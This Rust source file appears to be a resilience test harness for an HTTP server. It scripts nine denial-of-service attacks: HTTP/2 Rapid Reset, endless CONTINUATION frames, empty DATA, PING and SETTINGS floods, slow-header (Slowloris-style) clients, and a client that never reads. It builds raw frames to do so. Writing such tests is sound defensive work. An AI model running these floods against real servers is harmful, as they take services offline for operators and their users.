//! The floods, each as one attacker plays it until the server has had enough.

use std::future::Future;
use std::net::SocketAddr;
use std::pin::Pin;
use std::task::{Context as TaskContext, Poll};
use std::time::{Duration, Instant};

use bequest_http::server::BoxError;
use bytes::Bytes;
use http_body::{Body, Frame};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::{Outcome, connect};

/// How long an attacker that is sent away comes back.
const LONG: Duration = Duration::from_secs(5);

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

#[derive(Clone, Copy, Debug)]
pub(crate) enum Attack {
    RapidReset,
    Continuation,
    EmptyData,
    Ping,
    Settings,
    Nothing,
    HalfHeader,
    ByteASecond,
    NeverReads,
}

impl Attack {
    pub(crate) const ALL: [Attack; 9] = [
        Attack::RapidReset,
        Attack::Continuation,
        Attack::EmptyData,
        Attack::Ping,
        Attack::Settings,
        Attack::Nothing,
        Attack::HalfHeader,
        Attack::ByteASecond,
        Attack::NeverReads,
    ];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Attack::RapidReset => "HTTP/2 streams opened and reset, coming back for 5 s",
            Attack::Continuation => "HTTP/2 header block without end",
            Attack::EmptyData => "HTTP/2 empty DATA",
            Attack::Ping => "HTTP/2 PING, answers unread",
            Attack::Settings => "HTTP/2 SETTINGS, answers unread",
            Attack::Nothing => "not a byte",
            Attack::HalfHeader => "half a header",
            Attack::ByteASecond => "a byte of a header each second",
            Attack::NeverReads => "an endless answer, unread",
        }
    }

    /// Plays it to its end.
    pub(crate) fn run(self, addr: SocketAddr) -> Pin<Box<dyn Future<Output = Outcome> + Send>> {
        Box::pin(async move {
            if let Attack::RapidReset = self {
                return rapid_reset(addr).await;
            }
            let began = Instant::now();
            let mut stream = connect(addr).await?;
            match self {
                Attack::RapidReset => unreachable!("returned above"),
                Attack::Continuation => {
                    let field = [&[0x00, 0x01, b'x', 0x7f, 0x81, 0x7e][..], &[b'y'; 16_256]].concat();
                    let opening = frame(HEADERS, 0, 1, &get_block());
                    repeat(&mut stream, &opening, &frame(CONTINUATION, 0, 1, &field)).await;
                }
                Attack::EmptyData => {
                    let opening = frame(HEADERS, END_HEADERS, 1, &get_block());
                    repeat(&mut stream, &opening, &frame(0, 0, 1, &[])).await;
                }
                Attack::Ping => repeat(&mut stream, &[], &frame(PING, 0, 0, b"flooding")).await,
                Attack::Settings => repeat(&mut stream, &[], &frame(SETTINGS, 0, 0, &[])).await,
                Attack::Nothing => closed(&mut stream).await,
                Attack::HalfHeader => {
                    stream.write_all(b"GET / HTTP/1.1\r\nhost: x\r\nx: ").await?;
                    closed(&mut stream).await;
                }
                Attack::ByteASecond => {
                    stream.write_all(b"GET / HTTP/1.1\r\nx: ").await?;
                    let (mut read, mut write) = stream.split();
                    let trickle = async {
                        while write.write_all(b"y").await.is_ok() {
                            tokio::time::sleep(Duration::from_secs(1)).await;
                        }
                    };
                    tokio::select! {
                        () = trickle => {}
                        // Nothing comes but the end.
                        _ = read.read_u8() => {}
                    }
                }
                Attack::NeverReads => {
                    stream
                        .write_all(b"GET /endless HTTP/1.1\r\nhost: x\r\n\r\n")
                        .await?;
                    // What was sent waits unread; that the server has gone shows when it refuses what is sent to it.
                    while stream.write_all(b"x").await.is_ok() {
                        tokio::time::sleep(Duration::from_millis(100)).await;
                    }
                }
            }
            Ok(vec![began.elapsed()])
        })
    }
}

/// A body that always has more.
pub(crate) struct Endless;

impl Body for Endless {
    type Data = Bytes;
    type Error = BoxError;

    fn poll_frame(
        self: Pin<&mut Self>,
        _cx: &mut TaskContext<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, BoxError>>> {
        Poll::Ready(Some(Ok(Frame::data(Bytes::from_static(&[b'x'; 16 * 1024])))))
    }
}

/// Opens streams and resets them, as fast as it can, and comes back when it is sent away.
async fn rapid_reset(addr: SocketAddr) -> Outcome {
    let (began, mut open) = (Instant::now(), Vec::new());
    while began.elapsed() < LONG {
        let connected = Instant::now();
        let mut stream = connect(addr).await?;
        stream.write_all(&preface()).await?;
        let mut next = 1;
        while began.elapsed() < LONG {
            let mut batch = Vec::new();
            for _ in 0..50 {
                batch.extend(frame(HEADERS, END_STREAM | END_HEADERS, next, &get_block()));
                batch.extend(frame(RST_STREAM, 0, next, &8_u32.to_be_bytes()));
                next += 2;
            }
            if stream.write_all(&batch).await.is_err() {
                open.push(connected.elapsed());
                break;
            }
        }
    }
    Ok(open)
}

/// Sends `opening`, and then the same frame until the server has had enough.
async fn repeat(stream: &mut TcpStream, opening: &[u8], frame: &[u8]) {
    let batch = frame.repeat((16 * 1024 / frame.len()).max(1));
    let opening = [&preface()[..], opening].concat();
    if stream.write_all(&opening).await.is_ok() {
        while stream.write_all(&batch).await.is_ok() {}
    }
}

/// Waits until the server has closed.
async fn closed(stream: &mut TcpStream) {
    let mut buffer = [0; 1024];
    while let Ok(1..) = stream.read(&mut buffer).await {}
}

fn preface() -> Vec<u8> {
    [
        &b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..],
        &frame(SETTINGS, 0, 0, &[]),
    ]
    .concat()
}

/// The header block of `GET /flood`, in the plainest coding there is.
fn get_block() -> Vec<u8> {
    [&[0x82, 0x86, 0x04, 6][..], b"/flood", &[0x01, 4], b"test"].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}
